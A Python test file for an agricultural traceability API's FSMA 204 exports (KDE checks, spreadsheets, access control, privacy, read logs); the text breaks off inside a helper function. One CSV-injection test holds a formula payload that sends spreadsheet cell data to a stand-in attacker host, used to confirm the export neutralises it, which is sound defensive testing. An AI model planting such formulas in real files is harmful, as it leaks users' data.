"""FSMA 204 records (docs/fsma204.md): the demo export chains' sortable spreadsheet has every KDE the
rule requires for every CTE (checked against ``kde_columns.REQUIRED`` and its CFR sources); an
incomplete chain is flagged event by event; organisations export and pull only what they may; the
traceability plan PDF; the destination market on the consumer page; ``agritrace export fsma``."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from tests.conftest import REPO, auth
from tests.workspace_helpers import accept
from traceability_api.compose import build_runtime
from traceability_api.config import Settings
from traceability_api.consensus.gs1_uri import with_check_digit
from traceability_api.demo import _org
from traceability_api.demo_dongthap import G, seed_dong_thap
from traceability_api.demo_fsma import (
    FILLET,
    FILLET_LOT,
    FISH_LOT,
    MANGO_BOX_LOT,
    MANGO_LOT,
    PLANT_CODE,
    POND_CODE,
)
from traceability_api.epcis.builder import object_event
from traceability_api.epcis.identifiers import lot_uri
from traceability_api.events.capture import DEFAULT_CONTEXT, capture_events
from traceability_api.fsma.kde_columns import CTE, KEYS, REQUIRED
from traceability_api.fsma.romanise import romanise
from traceability_api.fsma.sheet import HEADERS
from traceability_api.lots.models import ProductCreate
from traceability_api.lots.service import create_product
from traceability_api.main import create_app
from traceability_api.parties.kinds import Role
from traceability_api.parties.service import party_uri
from traceability_api.places.models import PlaceCreate, PlaceKind
from traceability_api.places.service import create_place, place_uri
from traceability_api.runtime import Runtime
from traceability_api.workspace.invites import create_invite

MANGO_CTES = {CTE.harvesting, CTE.cooling, CTE.shipping, CTE.receiving, CTE.initial_packing}
FISH_CTES = {CTE.harvesting, CTE.shipping, CTE.receiving, CTE.transformation}


def test_romanise_drops_marks_and_writes_d_for_dd() -> None:
    assert romanise("Xoài cát Chu Cao Lãnh, Đồng Tháp") == "Xoai cat Chu Cao Lanh, Dong Thap"
    assert romanise("đường Nguyễn Huệ, Phường 1") == "duong Nguyen Hue, Phuong 1"
    assert romanise("ƯỚC Ơ Ă Â Ê Ô Ư Ỳ ỹ") == "UOC O A A E O U Y y"
    assert romanise("KCN C Sa Đéc 90023 (+84)") == "KCN C Sa Dec 90023 (+84)"
    assert romanise(None) == "" and romanise("") == ""
    assert romanise("Xã Mỹ Hiệp").isascii()


def test_required_kdes_name_known_columns_and_cite_subpart_s() -> None:
    assert set(REQUIRED) == set(CTE)
    for cte, cols in REQUIRED.items():
        assert {"reference_document_type", "reference_document_number"} <= {k for k, _ in cols}, cte
        for key, source in cols:
            assert key in KEYS and source.startswith(("1.1325", "1.1330", "1.1340", "1.1345", "1.1350")), (cte, key)
    assert len(HEADERS) == len(KEYS) == len(set(HEADERS))
    from traceability_api.workspace.i18n import T  # the workspace names every required KDE and CTE

    for lang in ("vi", "en"):
        assert {f"kde_{k}" for cols in REQUIRED.values() for k, _ in cols} <= T[lang].keys()
        assert {"cte_" + c.value.replace(" ", "_") for c in CTE} <= T[lang].keys()


@pytest.fixture
def rt(tmp_path: Path, database_url: str) -> Iterator[Runtime]:
    runtime = build_runtime(
        Settings(
            data_dir=tmp_path / "var",
            database_url=database_url,
            anchor_worker=False,
            public_base_url="https://trace.example.vn",
            consumer_page_cache_s=0,
            consumer_view_cache=False,
            rate_limit_enabled=False,
        ),  # fmt: skip
        with_chain=False,
    )
    yield runtime
    runtime.close()


@pytest.fixture
def client(rt: Runtime) -> Iterator[TestClient]:
    with TestClient(create_app(rt)) as c:
        yield c


def _seed(rt: Runtime) -> dict[str, str]:
    keys: dict[str, str] = {}
    with Session(rt.engine) as s:
        _org(s, "Chi cục Thủy sản Đồng Tháp", "authority", "Phường 1, TP. Cao Lãnh", keys)
        seed_dong_thap(s, rt, _org, keys)
        s.commit()
    return {name.rsplit(" (", 1)[0]: key for name, key in keys.items()}


def _sheet(client: TestClient, key: str, gtin: str, **params: Any) -> list[dict[str, Any]]:
    res = client.get("/api/v1/fsma/spreadsheet.xlsx", params={"gtin": gtin, **params}, headers=auth(key))
    assert res.status_code == 200, res.text
    ws = load_workbook(io.BytesIO(res.content)).active
    assert ws is not None
    table = list(ws.iter_rows(values_only=True))
    assert list(table[0]) == HEADERS
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(HEADERS)).column_letter}{len(table)}" and ws.freeze_panes == "A2"
    return [dict(zip(KEYS, r, strict=True)) for r in table[1:]]


@pytest.mark.slow
def test_demo_export_chains_have_every_required_kde(rt: Runtime, client: TestClient) -> None:
    keys = _seed(rt)
    authority = keys["Chi cục Thủy sản Đồng Tháp"]
    chains = {
        "mango": ([G["mango"], G["mango_box"]], {MANGO_LOT, MANGO_BOX_LOT}, MANGO_CTES),
        "pangasius": ([G["tra"], FILLET], {FISH_LOT, FILLET_LOT}, FISH_CTES),
    }
    for name, (gtins, tlcs, ctes) in chains.items():
        rows = [r for g in gtins for r in _sheet(client, authority, g) if r["tlc"] in tlcs]
        assert {CTE(r["cte"]) for r in rows} == ctes, name
        gaps = [(r["cte"], r["tlc"], k, src) for r in rows for k, src in REQUIRED[CTE(r["cte"])] if r[k] in (None, "")]
        assert gaps == [], gaps
        for r in rows:
            assert hasattr(r["event_date"], "year") and isinstance(r["quantity"], (int, float)), r  # typed, sortable
            assert all(str(v).isascii() for v in r.values() if v is not None), r  # romanised
        export = next(r for r in rows if r["cte"] == "shipping" and "Pacific Fresh" in r["subsequent_recipient"])
        assert export["destination_market"] == "US"  # checked by the code registry (aquaculture codes for the fish)
        codes = ("VN-DTOR-0012", "VN-DTPH-0031") if name == "mango" else (POND_CODE, PLANT_CODE)
        assert (export["origin_code"], export["house_code"]) == codes, export  # importing-market columns
        assert "Bill of lading" in export["reference_document_type"]
        assert "Phytosanitary certificate" in export["reference_document_type"] or name == "pangasius"
    mango = _sheet(client, authority, G["mango_box"], tlc_from="XCL-2506-00", tlc_to="XCL-2506-99")
    assert {r["tlc"] for r in mango} == {MANGO_BOX_LOT}  # a TLC range
    packed = next(r for r in mango if r["cte"] == "initial packing")
    assert packed["field_or_container"] == "Vuon xoai xuat khau ong Ba Tam, ap My Thanh, VN-DTOR-0012"
    assert "Kho lanh My Hiep" in packed["cooling_location"] and packed["tlc_source_reference"] == "PH-DT-0031"
    fish = _sheet(client, authority, G["tra"], since="2025-10-01T00:00:00+07:00", until="2025-11-01T00:00:00+07:00")
    harvest = next(r for r in fish if r["cte"] == "harvesting")
    assert harvest["tlc"] == FISH_LOT and harvest["field_or_container"].startswith("Ao nuoi ca tra so 5")
    assert harvest["harvester_phone"] == "+84 277 3834 219"
    csv = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": FILLET}, headers=auth(authority))
    assert csv.status_code == 200 and csv.content.startswith(b"\xef\xbb\xbfCritical Tracking Event,Event Date")
    assert b"SDF-2510-01" in csv.content and b"2025-10-07" in csv.content

    # the consumer page of an exported lot shows its destination market, in both languages
    vi = client.get(f"/01/{G['mango_box']}/10/{MANGO_BOX_LOT}?lang=vi")
    en = client.get(f"/01/{G['mango_box']}/10/{MANGO_BOX_LOT}?lang=en")
    assert "Thị trường xuất khẩu" in vi.text and "Hoa Kỳ" in vi.text, vi.text[-3000:]
    assert "Export market" in en.text and "United States" in en.text
    assert "Thị trường xuất khẩu" not in client.get(f"/01/{G['mango_box']}/10/XCL-2505-01?lang=vi").text

    # the traceability plan of the grower, with its farm map
    pdf = client.get("/api/v1/fsma/plan.pdf", headers=auth(keys["HTX Xoài Mỹ Xương"]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    text = _pdf_text(pdf.content)
    for wanted in ("Traceability Plan - HTX Xoai My Xuong", "Tropical tree fruits", "Nguyen Van Tam",
                   "+84 277 3851 012",
                   "Farm map", "Vuon xoai ong Ba Tam", "10.40970, 105.65470"):  # fmt: skip
        assert wanted in text, wanted


def _pdf_text(pdf: bytes) -> str:
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(pdf)
    try:
        return "\n".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))
    finally:
        doc.close()


@pytest.mark.slow
def test_organisations_export_and_pull_only_what_they_may(rt: Runtime, client: TestClient) -> None:
    keys = _seed(rt)
    pack, coop = keys["Nhà đóng gói Xoài Cao Lãnh"], keys["HTX Xoài Mỹ Xương"]
    importer, fish_farm = keys["Pacific Fresh Imports LLC"], keys["HTX Thủy sản Tân Thạnh"]
    own = _sheet(client, pack, G["mango_box"])
    assert own and {r["recorded_by"] for r in own} == {"Nha dong goi Xoai Cao Lanh"}  # its own records only
    assert _sheet(client, coop, G["mango_box"]) == []  # the coop recorded nothing of the boxes
    coop_id = client.get("/api/v1/organisations/me", headers=auth(coop)).json().get("id")
    for key in (pack, importer):
        res = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": G["mango"], "org_id": coop_id or 1},
                         headers=auth(key))  # fmt: skip
        assert res.status_code == 403 and "its own" in res.text
    for bad in ({"gtin": "123"}, {"gtin": G["mango"], "since": "2025-01-01T00:00:00"},
                {"gtin": G["mango"], "tlc_from": "B", "tlc_to": "A"},
                {"gtin": G["mango"], "tlc_from": "a b"}):  # fmt: skip
        res = client.get("/api/v1/fsma/spreadsheet.xlsx", params=bad, headers=auth(pack))
        assert res.status_code in (400, 422), (bad, res.text)

    # the US importer received the boxes: it pulls every upstream CTE, what the shipper handed on, the bundle
    up = client.get(f"/api/v1/fsma/lots/{G['mango_box']}/{MANGO_BOX_LOT}/upstream", headers=auth(importer))
    assert up.status_code == 200, up.text
    body = up.json()
    assert {r["cte"] for r in body["records"]} == {c.value for c in MANGO_CTES}
    assert {r["tlc"] for r in body["records"]} == {MANGO_LOT, MANGO_BOX_LOT}
    handed = body["shippedWithGoods"]
    assert handed["tlc"] == MANGO_BOX_LOT and handed["quantity"] == 2.8 and handed["unit"] == "TNE"
    assert "Pacific Fresh Imports" in handed["subsequent_recipient"] and handed["tlc_source_location"]
    assert (handed["origin_code"], handed["house_code"]) == ("VN-DTOR-0012", "VN-DTPH-0031")
    assert {r["origin_code"] for r in body["records"]} == {"VN-DTOR-0012"}
    assert body["proofBundle"]["lot"]["lotCode"] == MANGO_BOX_LOT and len(body["proofBundle"]["events"]) >= 10
    # firms that neither hold nor received a lot get nothing (as if it did not exist)
    for key, gtin, tlc in ((fish_farm, G["mango_box"], MANGO_BOX_LOT), (pack, FILLET, FILLET_LOT),
                           (coop, G["mango_box"], MANGO_BOX_LOT)):  # fmt: skip
        res = client.get(f"/api/v1/fsma/lots/{gtin}/{tlc}/upstream", headers=auth(key))
        assert res.status_code == 404, (key, tlc, res.text)
    fillets = client.get(f"/api/v1/fsma/lots/{FILLET}/{FILLET_LOT}/upstream", headers=auth(importer))
    assert fillets.status_code == 200
    assert {(r["origin_code"], r["house_code"]) for r in fillets.json()["records"]} == {(POND_CODE, PLANT_CODE)}
    other_plan = client.get("/api/v1/fsma/plan.pdf", params={"org_id": coop_id or 1}, headers=auth(pack))
    assert other_plan.status_code == 403


def test_incomplete_chain_is_flagged_event_by_event(rt: Runtime, client: TestClient) -> None:
    keys: dict[str, str] = {}
    with Session(rt.engine) as s:
        farm = _org(s, "HTX Thiếu Hồ Sơ", "cooperative", "Xã Tân Thuận, Đồng Tháp", keys)
        buyer = _org(s, "Vựa Trái Cây Ba Lợi", "distributor", "Chợ Cao Lãnh", keys)
        gtin = with_check_digit(f"893{9999:010d}")
        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài Hòa Lộc", name_en="Hoa Loc mango",
                                                 ftl_category="Tropical tree fruits"))  # fmt: skip
        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn số 3"))
        lot = lot_uri(gtin, "HL-01")
        zone = rt.settings.zone

        def cap(who: Any, event: dict[str, Any]) -> None:
            capture_events(s, who[1], [event], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)

        cap(farm, object_event(
            "commissioning", zone, when="2025-07-01T06:00:00+07:00", action="ADD", lot=lot, quantity=500, uom="KGM",
            bizLocation={"id": place_uri(plot)}, ilmd={"agri:plot": place_uri(plot)}))  # fmt: skip
        dest = [{"type": "owning_party", "destination": party_uri(buyer[0])}]
        cap(farm, object_event("shipping", zone, when="2025-07-01T09:00:00+07:00", lot=lot, quantity=500, uom="KGM",
                               destinationList=dest))  # fmt: skip
        cap(buyer, object_event("receiving", zone, when="2025-07-01T11:00:00+07:00", lot=lot, destinationList=dest))
        token = create_invite(s, rt.settings, farm[1].org_id, "Quản trị", Role.admin, farm[1].member_id)
        s.commit()
    res = client.get(
        "/api/v1/fsma/kde-check", params={"gtin": gtin}, headers=auth(keys["HTX Thiếu Hồ Sơ (cooperative)"])
    )
    assert res.status_code == 200, res.text
    body = res.json()
    assert body["checked"] == 2 and body["incomplete"] == 2  # the farm's own two events
    flagged = {e["cte"]: {m["kde"] for m in e["missing"]} for e in body["events"]}
    assert flagged["harvesting"] == {"harvester_phone", "reference_document_type", "reference_document_number"}
    assert flagged["shipping"] == {"reference_document_type", "reference_document_number"}
    assert all(m["source"].startswith("21 CFR 1.13") for e in body["events"] for m in e["missing"])
    assert body["truncated"] is False
    one = client.get("/api/v1/fsma/kde-check", params={"gtin": gtin, "limit": 1},
                     headers=auth(keys["HTX Thiếu Hồ Sơ (cooperative)"])).json()  # fmt: skip
    assert (one["checked"], one["incomplete"], len(one["events"]), one["truncated"]) == (2, 2, 1, True)
    buyer_view = client.get("/api/v1/fsma/kde-check", headers=auth(keys["Vựa Trái Cây Ba Lợi (distributor)"])).json()
    assert [(e["cte"], {m["kde"] for m in e["missing"]}) for e in buyer_view["events"]] == [
        ("receiving", {"quantity", "unit", "reference_document_type", "reference_document_number"})
    ]
    # the same check, small, on the farm's workspace home (Vietnamese first)
    accept(client, token, "thieu-ho-so")
    home = client.get("/app")
    assert home.status_code == 200 and "Hồ sơ xuất khẩu Hoa Kỳ (FSMA 204)" in home.text
    assert "Sự kiện thiếu dữ liệu bắt buộc: 2 / 2" in home.text
    assert (
        "Thu hoạch · HL-01 · 01/07/2025 – thiếu: loại chứng từ, số chứng từ, điện thoại đơn vị thu hoạch" in home.text
    )
    client.cookies.set("agt_lang", "en")
    en = client.get("/app").text
    assert "US export records (FSMA 204)" in en and "missing: document type, document number" in en


@pytest.mark.slow
def test_cli_export_fsma_writes_the_spreadsheet(rt: Runtime, tmp_path: Path) -> None:
    _seed(rt)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AGRITRACE_", "DATABASE_URL", "CHAIN_RPC"))}
    env |= {"PYTHONPATH": str(REPO), "DATABASE_URL": rt.settings.effective_database_url,
            "AGRITRACE_DATA_DIR": str(rt.settings.data_dir)}  # fmt: skip
    out = tmp_path / "fsma.csv"
    cmd = [
        sys.executable,
        "-m",
        "traceability_api.cli",
        "export",
        "fsma",
        str(out),
        "--gtin",
        FILLET,
        "--format",
        "csv",
    ]
    res = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    assert "SDF-2510-01" in out.read_text("utf-8-sig") and "rows" in res.stdout
    bad = subprocess.run([*cmd[:-2], "--since", "yesterday"], env=env, capture_output=True, text=True, timeout=120)
    assert bad.returncode == 1 and "since" in bad.stderr and "Traceback" not in bad.stderr
    year_0 = [*cmd, "--since", "0001-01-01T00:00:00+14:00"]  # year 0 once in UTC: was a traceback
    bad = subprocess.run(year_0, env=env, capture_output=True, text=True, timeout=120)
    assert bad.returncode == 1 and "since: a time between the years 1 and 9999" in bad.stderr, bad.stderr
    full = [*cmd[:5], "/dev/full", *cmd[6:]]  # every write fails (ENOSPC) and the error names no file
    bad = subprocess.run(full, env=env, capture_output=True, text=True, timeout=120)
    assert bad.returncode == 1 and "No space left on device" in bad.stderr and "Traceback" not in bad.stderr, bad.stderr


def test_private_harvest_stays_out_of_a_buyers_fsma_records(rt: Runtime, client: TestClient) -> None:
    """A farm harvests privately (its variety a secret): the buyer's own spreadsheet and its upstream
    pull neither show the private harvesting row nor copy the private event's variety or TLC source
    reference into the rows the buyer may read; an authority still sees all of it."""
    keys, farm, buyer, gtin = _private_harvest_sold(
        rt, 9998, "VK-01", {"agri:variety": "VARIETY-SECRET-Q1", "agri:tlcSourceReference": "TLCREF-SECRET-Q2"}
    )
    secrets = ("VARIETY-SECRET-Q1", "TLCREF-SECRET-Q2")
    buyer_key = keys["Vựa Xoài Chợ Lách (distributor)"]
    sheet_csv = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin}, headers=auth(buyer_key))
    assert sheet_csv.status_code == 200 and "receiving" in sheet_csv.text
    up = client.get(f"/api/v1/fsma/lots/{gtin}/VK-01/upstream", headers=auth(buyer_key))
    assert up.status_code == 200, up.text
    assert {r["cte"] for r in up.json()["records"]} == {"shipping", "receiving"}  # not the private harvest
    for text in (sheet_csv.text, up.text, str(_sheet(client, buyer_key, gtin))):
        for secret in secrets:
            assert secret not in text
    from traceability_api.fsma.check import own_gaps

    with Session(rt.engine) as s:  # the buyer's workspace home block draws on what its KDE check may read
        home = own_gaps(s, buyer[1], limit=50)
    check = client.get("/api/v1/fsma/kde-check", params={"gtin": gtin, "limit": 50}, headers=auth(buyer_key)).json()
    assert home["checked"] == check["checked"] >= 1 and home["events"] == check["events"], (home, check)
    assert not any(secret in str(home) for secret in secrets)
    authority = client.get(
        f"/api/v1/fsma/lots/{gtin}/VK-01/upstream", headers=auth(keys["Chi cục QLCL Đồng Tháp (authority)"])
    )
    assert {r["cte"] for r in authority.json()["records"]} == {"harvesting", "shipping", "receiving"}
    assert all(secret in authority.text for secret in secrets)


def test_odd_spreadsheet_parameters_are_clear_refusals(rt: Runtime, client: TestClient) -> None:
    """GTINs of non-ASCII digits (\\d matched them; the file name header then failed: 500) and times
    outside the years 1-9999 in UTC (the CLI's traceback, the API's generic 422) are refused by name."""
    keys, _, _, gtin = _private_harvest_sold(rt, 9995, "VK-04", {"agri:variety": "Cat"})
    key = keys["HTX Vườn Kín (cooperative)"]
    for fmt in ("csv", "xlsx"):
        for odd in ("１２３４５６７８９０１２３４", "٠١٢٣٤٥٦٧٨٩٠١٢٣"):  # full-width, Arabic-Indic
            res = client.get(f"/api/v1/fsma/spreadsheet.{fmt}", params={"gtin": odd}, headers=auth(key))
            assert res.status_code == 422 and "gtin: give the product's GTIN-14" in res.text, (fmt, res.text)
        for name, t in (("since", "0001-01-01T00:00:00+14:00"), ("until", "9999-12-31T23:59:59-14:00")):
            res = client.get(f"/api/v1/fsma/spreadsheet.{fmt}", params={"gtin": gtin, name: t}, headers=auth(key))
            assert res.status_code == 422 and f"{name}: a time between the years 1 and 9999" in res.text, res.text
    res = client.get("/api/v1/fsma/kde-check", params={"since": "0001-01-01T00:00:00+14:00"}, headers=auth(key))
    assert res.status_code == 422 and "since: a time between" in res.text


def test_a_time_zone_typed_unencoded_in_the_url_is_read(rt: Runtime, client: TestClient) -> None:
    """'+07:00' typed into a URL arrives as ' 07:00' (a '+' is a space in a query string): the very
    example the refusals give was refused as 'unexpected extra characters at the end of the input'."""
    keys, _, _, gtin = _private_harvest_sold(rt, 9992, "VK-07", {"agri:variety": "Cat"})
    key = keys["HTX Vườn Kín (cooperative)"]
    typed = client.get(f"/api/v1/fsma/spreadsheet.csv?gtin={gtin}&since=2025-07-01T08:30:00+07:00", headers=auth(key))
    encoded = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin, "since": "2025-07-01T08:30:00+07:00"},
                         headers=auth(key))  # fmt: skip
    assert typed.status_code == encoded.status_code == 200, typed.text
    assert typed.content == encoded.content and "shipping" in typed.text and "harvesting" not in typed.text
    check = client.get(f"/api/v1/fsma/kde-check?until=2025-07-01T08:30+07:00&gtin={gtin}", headers=auth(key))
    assert check.status_code == 200 and [e["cte"] for e in check.json()["events"]] == ["harvesting"], check.text


def test_a_client_refusing_gzip_gets_none(rt: Runtime, client: TestClient) -> None:
    """``gzip;q=0`` refuses gzip (RFC 9110 12.5.3): the FSMA CSV and every other response of the app
    came gzipped all the same (the app-wide middleware looked for the text "gzip" in the header)."""
    keys, _, _, gtin = _private_harvest_sold(rt, 9993, "VK-06", {"agri:variety": "Cat"})
    key = keys["HTX Vườn Kín (cooperative)"]
    for wanted, coding in (("gzip;q=0", None), ("gzip;q=0, identity", None), ("*;q=0", None), ("*", "gzip"),
                           ("gzip", "gzip"), ("br", None)):  # fmt: skip
        res = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin},
                         headers=auth(key) | {"Accept-Encoding": wanted})  # fmt: skip
        assert res.status_code == 200 and "receiving" not in res.text and "harvesting" in res.text
        assert res.headers.get("content-encoding") == coding, (wanted, res.headers)
    docs = client.get("/openapi.json", headers={"Accept-Encoding": "gzip;q=0"})  # any response of the app
    assert len(docs.content) > 1024 and "content-encoding" not in docs.headers
    assert client.get("/openapi.json", headers={"Accept-Encoding": "gzip"}).headers["content-encoding"] == "gzip"


def test_kept_rows_rebuilt_during_an_export_never_reach_another_organisation(rt: Runtime) -> None:
    """The kept CSV is checked (``usable``) before the answer starts and read while it is sent: a
    foreign non-public event written, and the rows refreshed, in between must not put that event's
    data into an organisation's file (the read now keeps to the rows ``usable`` allows)."""
    from traceability_api.fsma import cache
    from traceability_api.fsma.records import MAX_ROWS
    from traceability_api.fsma.service import selection_for

    keys, farm, buyer, gtin = _private_harvest_sold(rt, 9994, "VK-05", {"agri:variety": "Cat"}, harvest="public")
    lot, zone = lot_uri(gtin, "VK-05"), rt.settings.zone

    def cap(who: Any, event: dict[str, Any]) -> None:
        with Session(rt.engine) as s:
            capture_events(s, who[1], [event], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)
            s.commit()

    to_farm = [{"type": "owning_party", "destination": f"urn:agritrace:party:{farm[1].org_id}"}]
    cap(buyer, object_event("shipping", zone, when="2025-07-02T09:00:00+07:00", lot=lot, quantity=500, uom="KGM",
                            destinationList=to_farm))  # fmt: skip
    cap(farm, object_event("receiving", zone, when="2025-07-02T11:00:00+07:00", lot=lot, destinationList=to_farm))
    sel = selection_for(buyer[1], gtin=gtin)
    with Session(rt.engine) as s:
        pieces = cache.kept_csv(s, rt.engine, buyer[1], sel, MAX_ROWS)
    assert pieces is not None  # every row the buyer asked for draws on public events or its own
    # before the first byte is read: the farm records a private shipment, dated before the buyer's
    # receipt (its source the receipt's "previous source"), and the background loop refreshes the rows
    cap(farm, object_event("shipping", zone, when="2025-07-01T10:00:00+07:00", lot=lot,
                           sourceList=[{"type": "possessing_party", "source": "urn:example:SECRET-BROKER"}],
                           destinationList=[{"type": "owning_party",
                                             "destination": f"urn:agritrace:party:{buyer[1].org_id}"}],
                           **{"agri:visibility": "private"}))  # fmt: skip
    assert cache.refresh(rt.engine) >= 1
    sent = b"".join(pieces)
    assert sent.startswith(b"\xef\xbb\xbfCritical Tracking Event") and b"SECRET" not in sent
    assert b"SECRET" in b"".join(cache.csv_pieces(rt.engine, sel, MAX_ROWS))  # an authority's read keeps it


def test_plan_of_an_unknown_organisation_is_404(rt: Runtime, client: TestClient) -> None:
    keys: dict[str, str] = {}
    with Session(rt.engine) as s:
        _org(s, "Chi cục QLCL Cần Thơ", "authority", "Ninh Kiều, Cần Thơ", keys)
        s.commit()
    res = client.get("/api/v1/fsma/plan.pdf", params={"org_id": 424242}, headers=auth(next(iter(keys.values()))))
    assert res.status_code == 404 and "organisation 424242 not found" in res.text


def test_text_that_looks_like_a_formula_stays_text_in_the_spreadsheets(rt: Runtime, client: TestClient) -> None:
    """Anybody capturing events writes free text (variety, document numbers) that reaches an FDA or
    authority spreadsheet: a leading =, +, - or @ must not become a live formula (CSV injection)."""
    keys: dict[str, str] = {}
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with Session(rt.engine) as s:
        farm = _org(s, "HTX Công Thức", "cooperative", "Xã Tân Thuận, Đồng Tháp", keys)
        gtin = with_check_digit(f"893{9997:010d}")
        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài", name_en="Mango"))
        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn 1"))
        capture_events(s, farm[1], [object_event(
            "commissioning", rt.settings.zone, when="2025-07-01T06:00:00+07:00", action="ADD",
            lot=lot_uri(gtin, "CT-01"), quantity=5, uom="KGM", bizLocation={"id": place_uri(plot)},
            ilmd={"agri:plot": place_uri(plot), "agri:variety": evil},
            bizTransactionList=[{"type": "inv", "bizTransaction": f"urn:agritrace:doc:{evil}"},
                                {"type": "po", "bizTransaction": "urn:agritrace:doc:@SUM(1+1)"}],
        )], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)  # fmt: skip
        s.commit()
    key = keys["HTX Công Thức (cooperative)"]
    res = client.get("/api/v1/fsma/spreadsheet.xlsx", params={"gtin": gtin}, headers=auth(key))
    ws = load_workbook(io.BytesIO(res.content)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    text = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin}, headers=auth(key)).text
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    starts = [v for row in lines[1:] for v in row if v[:1] in ("=", "+", "-", "@")]
    assert not starts, starts


def test_spreadsheet_is_built_chunk_by_chunk_and_refused_whole_when_too_big(
    rt: Runtime, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A year of records is never one list: rows come a chunk at a time from a server-side cursor and
    the CSV is sent piece by piece; the result is the same as building everything at once.  Too many
    records: 422 before any byte of the file (not a cut-off file)."""
    from traceability_api.fsma import records, sheet
    from traceability_api.fsma.service import selection_for
    from traceability_api.parties.models import OrgKind, Role
    from traceability_api.parties.service import Principal

    keys = _seed(rt)
    authority = keys["Chi cục Thủy sản Đồng Tháp"]
    operator = Principal(0, "operator", Role.auditor, 0, OrgKind.authority)
    sel = selection_for(operator, gtin=G["tra"])
    with Session(rt.engine) as s:
        whole = records.rows(s, sel)
        n = records.count_rows(s, sel)
        chunks = list(records.row_chunks(s, sel, n, chunk=2))
        pieces = list(sheet.csv_chunks(records.row_chunks(s, sel, n, chunk=2)))
    assert len(whole) >= 3 and len(chunks) >= 2 and max(len(c) for c in chunks) <= 2
    assert [r for c in chunks for r in c] == whole
    assert len(pieces) >= 3 and b"".join(pieces) == sheet.to_csv(whole)
    got = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": G["tra"]}, headers=auth(authority))
    assert got.status_code == 200 and got.content == sheet.to_csv(whole)
    assert got.headers["content-encoding"] == "gzip"  # compressed as it is sent (httpx decoded it)
    plain = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": G["tra"]},
                       headers=auth(authority) | {"Accept-Encoding": "identity"})  # fmt: skip
    assert "content-encoding" not in plain.headers and plain.content == got.content
    xlsx = _sheet(client, authority, G["tra"])
    assert len(xlsx) == len(whole)

    monkeypatch.setattr("traceability_api.fsma.router.MAX_ROWS", n - 1)
    monkeypatch.setattr(sheet, "XLSX_MAX_ROWS", n - 1)
    for fmt in ("csv", "xlsx"):
        res = client.get(f"/api/v1/fsma/spreadsheet.{fmt}", params={"gtin": G["tra"]}, headers=auth(authority))
        assert res.status_code == 422 and "choose a shorter date range" in res.json()["detail"], (fmt, res.text)


def test_reads_of_non_public_records_through_fsma_are_in_the_read_log(rt: Runtime, client: TestClient) -> None:
    """The spreadsheet, the KDE check and the upstream pull draw on other organisations' non-public
    events (an authority reads a private harvest; a buyer, a custody partner, the partners-only
    shipment its rows borrow from): each such read is in the owner's read log (docs/privacy.md), as
    for /api/v1/events. A farm exporting its own records, or a reader of public records only, adds none."""
    keys, _, _, gtin = _private_harvest_sold(rt, 9997, "VK-02", {"agri:variety": "Cát Chu"}, shipping="partners")
    farm_key, buyer_key = keys["HTX Vườn Kín (cooperative)"], keys["Vựa Xoài Chợ Lách (distributor)"]
    authority_key = keys["Chi cục QLCL Đồng Tháp (authority)"]

    def reads() -> list[tuple[str, str]]:
        r = client.get("/api/v1/audit-log/reads", headers=auth(farm_key), params={"limit": 1000})
        assert r.status_code == 200, r.text
        return [(x["reader_org"], x["path"]) for x in r.json()]

    for path, params in (("/api/v1/fsma/spreadsheet.csv", {"gtin": gtin}), ("/api/v1/fsma/kde-check", {"gtin": gtin})):
        assert client.get(path, params=params, headers=auth(farm_key)).status_code == 200  # its own: no entry
    assert reads() == []
    for path, params in (
        ("/api/v1/fsma/spreadsheet.csv", {"gtin": gtin}),  # from the rows kept on write (fsma.cache)
        ("/api/v1/fsma/spreadsheet.xlsx", {"gtin": gtin}),
        ("/api/v1/fsma/kde-check", {"gtin": gtin}),
        (f"/api/v1/fsma/lots/{gtin}/VK-02/upstream", {}),
    ):
        assert client.get(path, params=params, headers=auth(authority_key)).status_code == 200
        assert ("Chi cục QLCL Đồng Tháp", path) in reads(), (path, reads())
    up = f"/api/v1/fsma/lots/{gtin}/VK-02/upstream"
    assert client.get(up, headers=auth(buyer_key)).status_code == 200  # the partners-only shipment
    assert ("Vựa Xoài Chợ Lách", up) in reads(), reads()


def _private_harvest_sold(
    rt: Runtime, number: int, code: str, ilmd: dict[str, str], shipping: str = "public", harvest: str = "private"
) -> tuple[dict[str, str], Any, Any, str]:
    """A farm harvests a listed food privately (``ilmd`` its secrets; ``harvest``: the harvest's
    visibility), ships the lot to a buyer (the shipment's visibility ``shipping``) who receives it:
    (keys, farm, buyer, GTIN)."""
    keys: dict[str, str] = {}
    with Session(rt.engine) as s:
        farm = _org(s, "HTX Vườn Kín", "cooperative", "Xã Mỹ Xương, Đồng Tháp", keys)
        buyer = _org(s, "Vựa Xoài Chợ Lách", "distributor", "Chợ Cao Lãnh", keys)
